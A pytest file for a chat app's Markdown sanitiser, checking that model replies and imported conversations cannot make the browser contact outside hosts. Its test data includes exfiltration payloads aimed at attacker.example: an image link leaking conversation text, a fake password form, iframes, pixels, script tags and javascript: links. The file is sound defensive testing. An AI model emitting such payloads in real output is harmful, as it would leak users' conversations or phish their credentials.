"""Model output and imported conversations cannot make the browser reach out (llmchat.core.safe_markdown).

Unit tests of the rewrite, then the rewrite where text enters the app: the chat's replies (through
the API, from our test server), the conversation kept in the browser and an imported file. What the
browser finally renders is checked in Chromium in tests/test_browser_render.py.
"""

from __future__ import annotations

import json
import random
import re
from pathlib import Path

import pytest
from gradio_client import Client

import llmchat.core.safe_markdown as sm
from llmchat.core.conversation_file import clean_history, parse_import
from llmchat.core.presets import load_catalog
from llmchat.core.safe_markdown import safe_markdown, safe_reply
from llmchat.testing.openai_server import Behavior, OpenAITestServer
from llmchat.web.uploads import upload_root
from tests.replies import answer_of, notes_of

PNG = (
    "data:image/png;base64,"
    "iVBORw0KGgoAAAANSUhEUgAAAAQAAAAECAIAAAAmkwkpAAAAEElEQVR4nGM4oaEBRwzEcQDRQxGBSNLB6wAAAABJRU5ErkJggg=="
)
HOSTILE = (
    "Here is the summary ![chart](https://attacker.example/log?q=secret+conversation) and more.\n\n"
    '<img src="https://attacker.example/pixel.png"> <form action="https://attacker.example/steal">'
    '<input type="password" name="p"><button>Log in</button></form>\n\n'
    '<iframe src="https://attacker.example/"></iframe><object data="https://attacker.example/x"></object>'
)
# What must never survive outside code: an opening tag of these, or a Markdown image.
LIVE = re.compile(
    r"<(?:form|input|button|textarea|select|iframe|object|embed|video|audio|source|link|meta|base|style|"
    r"svg|math|script|frame|img)\b|(?<!\\)!\[",
    re.IGNORECASE,
)


# --- images --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "see ![chart](https://attacker.example/a.png?q=1) now",
            "see [chart](https://attacker.example/a.png?q=1) now",
        ),
        ("![](http://attacker.example/a.png)", "[🖼️](http://attacker.example/a.png)"),
        ('![a](//attacker.example/a.png "t")', '[a](//attacker.example/a.png "t")'),
        ("![a](/logout)", "[a](/logout)"),  # our origin, but not a file of ours
        ("![a](<https://attacker.example/a b.png>)", "[a](&lt;https://attacker.example/a b.png>)"),
        ("!![a](https://attacker.example/a.png)", "!\\![a](https://attacker.example/a.png)"),
    ],
)
def test_an_image_from_elsewhere_becomes_a_link(text: str, expected: str) -> None:
    assert safe_markdown(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        f"![red]({PNG})",
        '![red](/gradio_api/file=/tmp/gradio/abc/red.png "title")',
        f'<img src="{PNG}" alt="red">',
    ],
)
def test_data_images_and_our_own_files_stay_images(text: str) -> None:
    assert safe_markdown(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "![logo][ref]\n\n[ref]: https://attacker.example/a.png",
        "![logo]\n\n[logo]: https://attacker.example/a.png",
        "![nested ![x](https://attacker.example/a.png)](https://attacker.example/b.png)",
        "![alt](https://attacker.example/a.png",  # half of one, while the answer streams in
        "![alt",
        "![a](javascript:alert(1))",
    ],
)
def test_any_other_image_syntax_is_never_an_image(text: str) -> None:
    out = safe_markdown(text)
    assert not re.search(r"(?<!\\)!\[", out), out
    assert out.replace("\\!", "!").replace("[🖼️", "![") == text or "[" in out


def test_image_alt_text_and_title_cannot_carry_a_tag() -> None:
    assert safe_markdown(f'![<form>]({PNG} "<iframe>")') == f'![&lt;form>]({PNG} "&lt;iframe>")'


# --- raw HTML ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "tag",
    [
        '<form action="https://attacker.example/">',
        '<input type="password" name="p">',
        "<button>",
        "<textarea>",
        "<select>",
        '<iframe src="https://attacker.example/">',
        '<object data="https://attacker.example/x">',
        '<embed src="https://attacker.example/x">',
        '<video src="https://attacker.example/v.mp4">',
        '<audio src="https://attacker.example/a.mp3">',
        '<source src="https://attacker.example/a.mp3">',
        '<link rel="stylesheet" href="https://attacker.example/s.css">',
        '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
        '<base href="https://attacker.example/">',
        "<style>body{background:url(https://attacker.example/b.png)}</style>",
        '<svg><image href="https://attacker.example/a.png"/></svg>',
        '<math href="https://attacker.example/">',
        "<script>alert(1)</script>",
        '<img src="https://attacker.example/pixel.png">',
        '<img src=https://attacker.example/pixel.png alt="x">',
        "<img>",
        "<pre>",
        "<div>",
        "<!-- comment -->",
        "<!DOCTYPE html>",
        "<?php echo 1; ?>",
        "<![CDATA[x]]>",
        "<think>",
    ],
)
def test_other_tags_show_as_text(tag: str) -> None:
    out = safe_markdown(f"before {tag} after")
    assert "<" not in out and out.replace("&lt;", "<").replace("\\!", "!") == f"before {tag} after"


def test_formatting_tags_stay_with_only_safe_attributes() -> None:
    text = (
        '<b onclick="steal()">bold</b> <i style="background:url(https://attacker.example/x)">it</i> '
        '<a href="https://example.org/" title="t" target="_top">ok</a> <a href="javascript:alert(1)">js</a> '
        '<a href="jav&#x61;script:alert(1)">entity</a> <a href="//attacker.example/">proto</a> '
        "<details open><summary>S</summary><kbd>Ctrl</kbd>+<code>x</code>H<sub>2</sub>O</details>"
        '<table><tr><td align="right" colspan="2" onmouseover="x()">1</td></tr></table><br/><hr>'
    )
    assert safe_markdown(text) == (
        '<b>bold</b> <i>it</i> <a href="https://example.org/" title="t">ok</a> <a>js</a> '
        "<a>entity</a> <a>proto</a> "
        "<details open><summary>S</summary><kbd>Ctrl</kbd>+<code>x</code>H<sub>2</sub>O</details>"
        '<table><tr><td align="right" colspan="2">1</td></tr></table><br><hr>'
    )


def test_links_stay_links_and_javascript_autolinks_are_text() -> None:
    text = "[site](https://example.org) <https://example.org/a> <me@example.org> <javascript:alert(1)>"
    assert safe_markdown(text) == text.replace("<javascript", "&lt;javascript")


@pytest.mark.parametrize("cut", ["<form", "<form action=", '<input type="pass', "</for", "<b", "<img src=x"])
def test_a_tag_cut_off_at_the_end_is_text(cut: str) -> None:
    assert safe_markdown(f"streaming {cut}") == f"streaming &lt;{cut[1:]}"


def test_every_prefix_of_a_streamed_hostile_answer_is_safe() -> None:
    outs = [safe_markdown(HOSTILE[:end]) for end in range(1, len(HOSTILE) + 1)]
    assert [out for out in outs if LIVE.search(out)] == []
    assert outs[-1].count("&lt;") == 10 and "[chart](https://attacker.example/log?q=secret" in outs[-1]


# --- code ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "```html\n<form><input type=password></form>\n![x](https://attacker.example/a.png)\n```",
        "~~~\n<iframe src=x>\n~~~",
        "1. Install:\n   ```cpp\n   #include <iostream>\n   ```\n2. Run it",
        "````\n```\n<form>\n```\n````",
        "```\nunclosed, still streaming <form",
        "Use `<div>` for blocks and `![alt](https://x/a.png)` for images.",
        "**Bold** then (`<b>`) and `` a ` <br> `` too.",
        "| tag | use |\n|---|---|\n| `<b>` | bold |",
    ],
)
def test_code_is_left_as_it_is(text: str) -> None:
    assert safe_markdown(text) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # marked reads a link here, whose destination swallows the first backtick
        ("[a](b`c) <form> `", "[a](b<code>c&#41; &lt;form&gt; </code>"),
        # a bare URL swallows a backtick in marked (GFM autolink)
        ("http://x.example/`<form>`", "http://x.example/<code>&lt;form&gt;</code>"),
        ("a ~`<form>`", "a ~<code>&lt;form&gt;</code>"),  # marked reads "~`" as text
        # ... or the backslash that would escape a "<"
        ("http://x.example/\\<form>", "http://x.example/&lt;form>"),
        (
            "see [docs](https://x.example) and `<b>`",
            "see [docs](https://x.example) and <code>&lt;b&gt;</code>",
        ),
    ],
)
def test_a_code_span_marked_may_not_read_as_one_becomes_escaped_html(text: str, expected: str) -> None:
    assert safe_markdown(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        # a fence that opens after "- " ends where marked's list item says: not trusted after it
        "- ```\n  <b>\n  ```\n  <form>",
        # inside an HTML block (here opened by <details>) backticks and fences are not code
        "<details>\n```\n<form>\n```\n</details>",
        "<details>\n`<form>`",
        "- <details>\n  ```\n  <form>\n  ```",
        # a link definition's title may run over several lines in marked
        '[a]: https://x.example "\n```\n"\n<form>\n```',
        # the end of a fence in a list item depends on the item's indentation
        "- item\n   ```\n   code\n```\n<iframe>\n```\n<form>",
        # table cells are parsed on their own
        "| `a | <form>` |\n|---|---|\n| x | y |",
        # a fence on the last line, after a paragraph, is no fence for marked: its line is text
        "text\n```<form>",
        "text\n~~~ <iframe src=x>",
    ],
)
def test_what_only_looks_like_code_is_escaped(text: str) -> None:
    out = safe_markdown(text)
    assert not re.search(r"<(?:form|iframe)", out), out


def test_mermaid_blocks_are_shown_as_code() -> None:
    text = '```mermaid\ngraph TD\nA["<img src=https://attacker.example/a.png>"]\n```'
    assert safe_markdown(text) == text.replace("```mermaid", "``` mermaid")
    assert safe_markdown("> ```mermaid\n> <form>") == "> ``` mermaid\n> &lt;form>"


def test_latex_is_left_to_gradio_which_escapes_it() -> None:
    text = "$$a<b>c$$ and <form> then $$\n<x>\n$$"
    assert safe_markdown(text) == "$$a<b>c$$ and &lt;form> then $$\n<x>\n$$"


# --- properties ----------------------------------------------------------------------------------

_PIECES = [
    "<form>", "<b>", "</b>", "<details>", "`", "``", "```", "```mermaid", "~~~", "![a](https://e.x/a.png)",
    "![a]", "[", "](u)", "*", "_", "~", "|", "|---|", "- ", "> ", "   ", "\t", "\n", "\n\n", "$$", "\\",
    "<img src=https://e.x/a.png>", "http://e.x/", "<https://e.x>", "text", " ", "<", "!", "[r]: http://e.x",
]  # fmt: skip


def _samples(count: int, seed: int = 11) -> list[str]:
    rng = random.Random(seed)
    return ["".join(rng.choice(_PIECES) for _ in range(rng.randint(1, 40))) for _ in range(count)]


def test_idempotent() -> None:
    for text in [HOSTILE, *_samples(3000)]:
        once = safe_markdown(text)
        assert safe_markdown(once) == once, text


def test_a_growing_text_gives_what_a_fresh_scan_gives() -> None:
    """The resume cache (a streamed answer is scanned from its last blank line) changes nothing."""
    rng = random.Random(5)
    for text in ["$$ <b>\n\n<form> `x`", "```\n<b>\n\n<i>", *_samples(30, seed=3)]:
        long = (text + "\n\n") * (6000 // (len(text) + 2) + 1)  # over the cache's lower bound
        for _ in range(12):
            end = rng.randint(2000, len(long))
            sm._RESUME.clear()
            fresh = safe_markdown(long[:end])
            safe_markdown(long[: rng.randint(0, end)])  # an earlier update of the same answer
            assert safe_markdown(long[:end]) == fresh, (text, end)


def test_the_resume_cache_keeps_every_answer_of_a_crowd() -> None:
    """128 answers streaming at once (the default --concurrency), each with its thinking: every
    update resumes from the answer's last blank line instead of scanning it all again."""
    sm._RESUME.clear()
    answers = [f"Answer {k}: <b>tags</b> and `code`.\n\n" * 150 for k in range(256)]
    for end in (2500, 3500, 4500):
        for text in answers:
            safe_markdown(text[:end])
    missed = [k for k, text in enumerate(answers) if sm._RESUME.find(text[:5000]) is None]
    assert missed == []


def test_plain_text_is_returned_as_is() -> None:
    text = "No markup here: 2 < 3, a > b, `code`, [link](https://example.org), ![not an image."
    assert safe_markdown(text) is text or safe_markdown(text) == text.replace("![", "\\![")
    assert safe_markdown("日本語のテキスト") == "日本語のテキスト"


def test_replies_messages_and_titles() -> None:
    reply = [
        {"role": "assistant", "content": "<form>", "metadata": {"title": "<img src=https://e.x/a.png>"}},
        {"role": "assistant", "content": [{"type": "text", "text": "<iframe>"}, {"path": "/x.png"}]},
    ]
    assert safe_reply(reply) == [
        {
            "role": "assistant",
            "content": "&lt;form>",
            "metadata": {"title": "&lt;img src=https://e.x/a.png>"},
        },
        {"role": "assistant", "content": [{"type": "text", "text": "&lt;iframe>"}, {"path": "/x.png"}]},
    ]
    assert safe_reply("![x](https://e.x/a.png)") == "[x](https://e.x/a.png)"


# --- where text enters the app -----------------------------------------------------------------


def test_the_chat_answers_with_safe_text(client: Client, server: OpenAITestServer) -> None:
    server.set_behavior(Behavior(reply=HOSTILE, reasoning="thinking <iframe src=https://attacker.example/>"))
    reply = client.predict("summarise", api_name="/chat")
    assert not LIVE.search(answer_of(reply)) and "[chart](https://attacker.example/log?q=" in answer_of(reply)
    assert [text for text in notes_of(reply).values() if "<iframe" in text] == []
    server.set_behavior(Behavior(fault="http", status=500, message="<form><input type=password></form>"))
    assert all("<form" not in text for text in notes_of(client.predict("again", api_name="/chat")).values())


def test_a_conversation_from_the_browser_is_cleaned() -> None:
    kept = [
        {"role": "user", "content": "<img src=https://attacker.example/u.png>"},
        {"role": "assistant", "content": [HOSTILE], "metadata": {"title": "<iframe>", "status": "done"}},
    ]
    cleaned = clean_history(kept, upload_root())
    assert cleaned[0]["content"] == ["&lt;img src=https://attacker.example/u.png>"]
    assert not LIVE.search(cleaned[1]["content"][0]) and cleaned[1]["metadata"]["title"] == "&lt;iframe>"


def test_an_imported_conversation_is_cleaned(config_dir: Path) -> None:
    document = {
        "messages": [
            {"role": "system", "content": "Keep <this> as written."},
            {"role": "user", "content": [
                {"type": "text", "text": "<form>hi</form>"}, {"type": "image_url", "image_url": {"url": PNG}},
            ]},
            {"role": "assistant", "content": HOSTILE},
        ]
    }  # fmt: skip
    snapshot = parse_import(
        json.dumps(document).encode(), load_catalog(config_dir, environ={}), upload_root()
    )
    [user, assistant] = snapshot.history
    assert user["content"][1] == "&lt;form>hi&lt;/form>" and "path" in user["content"][0]
    assert not LIVE.search(assistant["content"])
    assert snapshot.settings is None or snapshot.settings.values["system_prompt"] == "Keep <this> as written."
